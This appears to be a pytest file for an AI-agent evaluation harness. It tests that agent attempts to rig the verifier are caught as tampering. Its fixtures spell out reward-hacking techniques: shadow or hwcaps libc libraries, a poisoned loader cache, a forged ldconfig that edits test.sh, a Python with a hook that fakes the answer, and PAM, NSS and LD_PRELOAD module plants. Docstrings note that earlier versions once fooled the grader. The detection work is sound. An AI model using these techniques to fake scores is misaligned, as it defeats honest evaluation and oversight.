) -> None:
    """The tests' PATH leaves /usr/local/sbin out; the harness's own commands (and the twin's
    first process) are found on its default PATH, which has it: its programs are checked
    too, so the planted shell is tamper, never run."""
    task = _task(make_task, "planted-narrow", ANSWER_TEST_SH)
    toml = task / "task.toml"
    toml.write_text(toml.read_text() + '[verifier.env]\nPATH = "/usr/bin:/bin"\n')
    outcome = await _trial(task, Scripted("echo 41 > /app/answer.txt", PLANTED_SHELLS))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome
    assert "/usr/local/sbin/bash" in outcome.error.message, outcome.error.message


# --- the dynamic loader ----------------------------------------------------------------

# zlib with the soname libc.so.6: a library every program would take for its libc (and
# fail on, which makes its use plain to see).
FAKE_LIBC = (
    "import os\n"
    "data = open('/usr/lib/x86_64-linux-gnu/libz.so.1', 'rb').read()\n"
    "assert data.count(b'libz.so.1\\0') == 1\n"
    "fake = data.replace(b'libz.so.1\\0', b'libc.so.6\\0')\n"
)
# In the folder the loader's configuration lists first: the harness's own `ldconfig` would
# make it every test program's libc. A plain copy of a library, or a new name, is harmless.
SHADOW_LIBRARY = (
    "python3 - <<'EOF'\n" + FAKE_LIBC + "open('/usr/local/lib/libc.so.6', 'wb').write(fake)\nEOF\n"
    "cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/local/lib/ && "
    "cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/local/lib/libclotho-new.so.1"
)
# A loader cache that sends every program's libc to /tmp, built from a configuration of the
# agent's own (`ldconfig -f`: the loader's configuration is untouched), from one process (the
# programs started after it would not run).
POISONED_CACHE = (
    "python3 - <<'EOF'\n" + FAKE_LIBC + "import subprocess\n"
    "os.makedirs('/tmp/x', exist_ok=True)\n"
    "open('/tmp/x/libc.so.6', 'wb').write(fake)\n"
    "open('/tmp/x.conf', 'w').write('/tmp/x\\ninclude /etc/ld.so.conf.d/*.conf\\n')\n"
    "subprocess.run(['/sbin/ldconfig', '-f', '/tmp/x.conf'], check=True)\n"
    "assert b'/tmp/x/libc.so.6' in open('/etc/ld.so.cache', 'rb').read()\n"
    "EOF"
)


async def test_a_library_named_like_the_images_is_tamper(make_task) -> None:
    """A library the agent put in a loader folder under the name of one another loader
    folder holds is tamper; the same content, or a new name, is not what it names."""
    task = _task(make_task, "shadow-lib", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", SHADOW_LIBRARY))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome
    message = outcome.error.message
    assert "/usr/local/lib/libc.so.6" in message, message
    assert "libz.so.1" not in message and "libclotho-new" not in message, message


async def test_a_library_whose_soname_is_the_images_is_never_linked_under_it(make_task) -> None:
    """A new name (`libzz.so.1`) hiding the soname `libc.so.6`: `ldconfig` would link it as
    libc in the folder listed first, and every test program would load it. The harness's
    `ldconfig` makes no link, so the honest answer is judged as such."""
    task = _task(make_task, "soname-lib", ANSWER_TEST_SH)
    plant = (
        "python3 - <<'EOF'\n"
        + FAKE_LIBC
        + "open('/usr/local/lib/libzz.so.1', 'wb').write(fake)\nEOF"
    )
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", plant))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0, outcome


HWCAPS = "/usr/local/lib/glibc-hwcaps/x86-64-v2"


@pytest.mark.parametrize(
    "plant",
    [
        f"mkdir -p {HWCAPS} && python3 - <<'EOF'\n{FAKE_LIBC}open('{HWCAPS}/libzz.so.6.x', 'wb').write(fake)\nEOF",
        f"mkdir -p /opt/h/x86-64-v2 && python3 - <<'EOF'\n{FAKE_LIBC}open('/opt/h/x86-64-v2/libzz.so.6.x', 'wb').write(fake)\nEOF\n"
        "ln -s /opt/h /usr/local/lib/glibc-hwcaps",
    ],
    ids=["any-name", "linked-folder"],
)
async def test_anything_where_the_loader_looks_first_is_tamper(make_task, plant: str) -> None:
    """`ldconfig`, even `-X`, caches a hwcaps folder's library under the soname inside it
    and the file's own name (`libzz.so.6.x` as libc.so.6): whatever the agent put at or
    under a loader folder's hwcaps folders, of any name or type, is tamper."""
    task = _task(make_task, f"hwcaps-{len(plant)}", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", plant))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome
    assert "/usr/local/lib/glibc-hwcaps" in outcome.error.message, outcome.error.message


# Ubuntu's `ldconfig` is a shell script that runs `ldconfig.real`.
UBUNTU_LDCONFIG = DOCKERFILE + (
    "RUN mv /usr/sbin/ldconfig /usr/sbin/ldconfig.real && "
    "printf '#!/bin/sh\\nexec /usr/sbin/ldconfig.real \"$@\"\\n' > /usr/sbin/ldconfig && "
    "chmod +x /usr/sbin/ldconfig\n"
)
# Replaced by a script that, run by the harness once the tests are unpacked, makes them pass
# anything, then hands over to the real one.
FORGED_LDCONFIG = (
    "cp /usr/sbin/ldconfig.real /opt/ldc && "
    'printf \'#!/bin/sh\\nsed -i "s/echo 0/echo 1/" /tests/test.sh 2>/dev/null\\nexec /opt/ldc "$@"\\n\''
    " > /usr/sbin/ldconfig.real"
)


async def test_the_program_ubuntus_ldconfig_runs_is_checked(make_task) -> None:
    """The harness runs `ldconfig` after unpacking the tests; on Ubuntu that script runs
    `ldconfig.real`, which the agent replaced (it scored a wrong answer 1.0): tamper."""
    task = _patient(
        make_task(
            "ubuntu-ldconfig", test_sh=ANSWER_TEST_SH, env_files={"Dockerfile": UBUNTU_LDCONFIG}
        )
    )
    (task / "environment" / "site").mkdir()
    outcome = await _trial(task, Scripted("echo 41 > /app/answer.txt", FORGED_LDCONFIG))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome
    assert "ldconfig.real" in outcome.error.message, outcome.error.message


async def test_a_library_in_a_hwcaps_folder_is_tamper(make_task) -> None:
    """The loader prefers a system folder's glibc-hwcaps subfolder for a CPU with those
    features, cache or not: a library the agent put there is tamper."""
    task = _task(make_task, "hwcaps-lib", ANSWER_TEST_SH)
    folder = "/usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v2"
    plant = f"mkdir -p {folder} && cp /usr/lib/x86_64-linux-gnu/libz.so.1 {folder}/"
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", plant))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome
    assert f"{folder}/libz.so.1" in outcome.error.message, outcome.error.message


async def test_the_agents_loader_cache_is_never_used(make_task) -> None:
    """The twin starts without the loader cache the agent left (one naming a libc in /tmp)
    and `ldconfig` makes it again from the checked configuration: the honest answer is
    judged as such."""
    task = _task(make_task, "poisoned-cache", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", POISONED_CACHE))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0, outcome


# --- uv's own Pythons ------------------------------------------------------------------

UV_TEST_SH = """\
mkdir -p /logs/verifier
echo "print(open('/app/answer.txt').read().strip())" > /tmp/check.py
got=$(UV_PYTHON_DOWNLOADS=never UV_OFFLINE=1 uv run --no-project -p 3.11 python /tmp/check.py)
echo "got $got"
if [ "$got" = 42 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""
# Where `uv python install` puts a Python, which uv prefers to the system's.
MANAGED = "/root/.local/share/uv/python/cpython-3.11.2-linux-x86_64-gnu"
# A Python there whose own start-up hook answers for the tests' script: its interpreter imports a hook
# under another name (one string of the binary changed), from a standard library that is a
# link to a folder of links (nothing in a folder named like Python's changed).
FORGING_PYTHON = (
    f"mkdir -p {MANAGED}/bin {MANAGED}/lib /tmp/stdlib && "
    "for f in /usr/lib/python3.11/*; do case $f in *customize*) ;; *) ln -s $f /tmp/stdlib/;; esac; done && "
    'printf \'import sys\\nif sys.argv[-1:] == ["/tmp/check.py"]:\\n'
    "    print(42); sys.exit(0)\\n' > /tmp/stdlib/zitecustomize.py && "
    f"ln -s /tmp/stdlib {MANAGED}/lib/python3.11 && ln -s python3.11 {MANAGED}/bin/python && "
    "python3 -c \"import sys; d = open('/usr/bin/python3.11', 'rb').read(); "
    f"open('{MANAGED}/bin/python3.11', 'wb').write(d.replace(b'sitecustomize', b'zitecustomize'))\" && "
    f"chmod +x {MANAGED}/bin/python3.11"
)


def _uv_binary() -> Path:
    found = shutil.which("uv", path=str(Path(sys.executable).parent)) or shutil.which("uv")
    assert found, "uv (the dev extra) is not installed"
    return Path(found)


# uv's system configuration, read before (and then instead of) /etc/uv/uv.toml: here one
# that leaves uv no Python at all, so the honest answer would lose.
XDG_UV_CONFIG = (
    'mkdir -p /etc/xdg/uv && printf \'python-preference = "only-managed"\\n'
    'python-downloads = "never"\\n\' > /etc/xdg/uv/uv.toml'
)


@pytest.mark.parametrize(
    ("plant", "answer", "expected"),
    [
        ("true", 42, 1.0),
        ("true", 41, 0.0),
        (FORGING_PYTHON, 41, 0.0),
        (XDG_UV_CONFIG, 42, 1.0),
    ],
    ids=["right", "wrong", "forging-python", "xdg-config"],
)
async def test_the_tests_uv_never_runs_a_python_the_agent_installed(
    make_task, plant, answer, expected
) -> None:
    """uv prefers its managed Pythons to the system's: the tests' uv looks for them in a
    folder of the harness's, so a Python the agent put there (one whose binary imports a
    start-up hook of the agent's, which scored 1.0 before) is never the tests'; nor does it
    read a system configuration outside the judged /etc/uv/uv.toml."""
    dockerfile = "FROM clotho/base:bookworm\nCOPY uv /usr/local/bin/uv\n"
    task = _patient(
        make_task(
            f"uv-{answer}-{len(plant)}", test_sh=UV_TEST_SH, env_files={"Dockerfile": dockerfile}
        )
    )
    shutil.copy(_uv_binary(), task / "environment" / "uv")
    outcome = await _trial(task, Scripted(f"echo {answer} > /app/answer.txt", plant))
    assert outcome.error is None, outcome.error
    assert outcome.reward == expected, outcome.verifier


# --- code a configuration file names ----------------------------------------------------

LIBZ = "/usr/lib/x86_64-linux-gnu/libz.so.1"  # any library stands in for the agent's module
MODULE_PLANTS = {
    # `passwd: clotho files`: every user lookup of the tests (pwd.getpwuid, ls -l) loads it.
    "nss-module": (
        f"cp {LIBZ} /usr/local/lib/libnss_clotho.so.2 && "
        "sed -i 's/^passwd:.*/passwd: clotho files/' /etc/nsswitch.conf",
        "/usr/local/lib/libnss_clotho.so.2",
    ),
    # A service named by a path: the C library opens `libnss_<name>.so.2` as given.
    "nss-path": (
        f"cp {LIBZ} /tmp/m.so.2 && mkdir -p /app/libnss_.. && "
        "sed -i 's|^passwd:.*|passwd: ../../tmp/m files|' /etc/nsswitch.conf",
        "/etc/nsswitch.conf",
    ),
    "gconv": (f"cp {LIBZ} /usr/lib/x86_64-linux-gnu/gconv/CLOTHO.so", "gconv/CLOTHO.so"),
    "pam": (
        f"cp {LIBZ} /tmp/p.so && echo 'auth optional /tmp/p.so' >> /etc/pam.d/other",
        "/etc/pam.d/other",
    ),
    # A bracketed control ends at its `]`: the module's path may follow without a space.
    "pam-bracket": (
        f"cp {LIBZ} /tmp/p.so && echo 'auth [default=ok]/tmp/p.so' >> /etc/pam.d/other",
        "/etc/pam.d/other",
    ),
    # PAM joins a continued line across a blank line: the module is the second line's.
    "pam-continued": (
        f"cp {LIBZ} /tmp/p.so && printf 'auth optional \\\\\\n\\n/tmp/p.so\\n' >> /etc/pam.d/other",
        "/etc/pam.d/other",
    ),
    "p11-kit": (
        "mkdir -p /etc/pkcs11/modules && echo 'module: /tmp/p.so' > /etc/pkcs11/modules/x.module",
        "/etc/pkcs11/modules/x.module",
    ),
    # The environment pam_env gives the tests' `su -`: every program of that session
    # preloads the agent's library.
    "environment": (
        f"cp {LIBZ} /tmp/p.so && echo 'LD_PRELOAD=/tmp/p.so' >> /etc/environment",
        "/etc/environment",
    ),
    "locale": ("echo 'export PYTHONPATH=/app' >> /etc/default/locale", "/etc/default/locale"),
    # su and runuser put the agent's folder first on the PATH of what they run.
    "su-path": (
        "printf 'ALWAYS_SET_PATH yes\\nENV_SUPATH PATH=/tmp/bin:/usr/bin:/bin\\n' > /etc/default/su",
        "/etc/default/su",
    ),
    # useradd runs every program in its hook folders, as root.
    "useradd-hook": (
        "mkdir -p /etc/shadow-maint/useradd-pre.d && cp /bin/true /etc/shadow-maint/useradd-pre.d/x",
        "/etc/shadow-maint/useradd-pre.d/x",
    ),
    "pam-env": (
        "echo 'PATH=/app:/usr/bin' > /app/e && "
        "echo 'session required pam_env.so envfile=/app/e' >> /etc/pam.d/su",
        "/etc/pam.d/su",
    ),
}


@pytest.mark.parametrize("plant", sorted(MODULE_PLANTS))
async def test_a_module_a_configuration_loads_is_tamper(make_task, plant: str) -> None:
    """A library the C library, PAM or p11-kit loads because a configuration names it runs
    inside the test process that looks up a user or runs apt-get (an NSS module whose
    constructor made pytest exit 0 scored a wrong answer 1.0): one the agent put there, or
    named by path, is tamper, whatever the answer; so is an environment for PAM sessions
    that sets more than a locale, a time zone or the system's PATH."""
    command, named = MODULE_PLANTS[plant]
    task = _task(make_task, f"module-{plant}", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", command))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome
    assert named in outcome.error.message, outcome.error.message


HONEST_CONFIG = (
    "sed -i 's/^hosts:.*/hosts: files dns myhostname/' /etc/nsswitch.conf && "
    "sed -i 's/^\\[openssl_init\\]/[openssl_init]\\nproviders = ps/' /etc/ssl/openssl.cnf && "
    "printf '[ps]\\ndefault = d\\nlegacy = l\\n[d]\\nactivate = 1\\n[l]\\nactivate = 1\\n'"
    " >> /etc/ssl/openssl.cnf && echo 'session optional pam_umask.so' >> /etc/pam.d/other"
    " && echo 'LANG=C.UTF-8' >> /etc/default/locale"
)


async def test_configuring_services_the_images_way_is_judged(make_task) -> None:
    """Name services in another order, OpenSSL's legacy provider activated by name, a PAM
    module of the image's, a default locale: the task's business, and the answer is
    judged."""
    task = _task(make_task, "module-honest", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", HONEST_CONFIG))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0, outcome


# Whether the tests' libcrypto loaded the legacy provider the agent activated by name; the
# agent's configuration stays there for the tests to read.
LIBCRYPTO_TEST_SH = """\
mkdir -p /logs/verifier
if ! grep -q '^legacy = l' /etc/ssl/openssl.cnf; then echo 0 > /logs/verifier/reward.txt; exit 0; fi
if openssl list -providers | grep -qi legacy; then echo 0; else echo 1; fi > /logs/verifier/reward.txt
"""


async def test_the_tests_libcrypto_reads_the_images_configuration(make_task) -> None:
    """OpenSSL's configuration loads providers and engines by path as soon as a process
    initialises libcrypto (`import hashlib`; a provider whose constructor made pytest exit 0
    scored a wrong answer 1.0): the tests' libcrypto reads the image's configuration, so
    nothing the agent wrote there is loaded, while its file stays the work's to read."""
    task = _task(make_task, "openssl-pinned", LIBCRYPTO_TEST_SH)
    outcome = await _trial(task, Scripted(HONEST_CONFIG))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0, outcome.verifier


# A package installing a PAM module under /lib, which Debian's merged /usr stores in /usr/lib.
PAM_PACKAGE = (
    "mkdir -p /tmp/deb/DEBIAN /tmp/deb/lib/x86_64-linux-gnu/security && "
    f"cp {LIBZ} /tmp/deb/lib/x86_64-linux-gnu/security/pam_clotho.so && "
    "printf 'Package: clotho-pam\\nVersion: 1\\nArchitecture: amd64\\nMaintainer: t <t@t.t>\\n"
    "Description: t\\n' > /tmp/deb/DEBIAN/control && "
    "dpkg-deb -b /tmp/deb /tmp/c.deb >/dev/null && dpkg -i /tmp/c.deb >/dev/null"
)


async def test_a_module_dpkg_installed_on_a_merged_usr_is_judged(make_task) -> None:
    """dpkg lists the module as /lib/…/security/pam_clotho.so, and the container's changes
    show it in /usr/lib, where /lib leads: the package manager's, so the answer is judged
    (matching only dpkg's spelling, it was tamper)."""
    task = _task(make_task, "module-dpkg", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", PAM_PACKAGE))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0, outcome
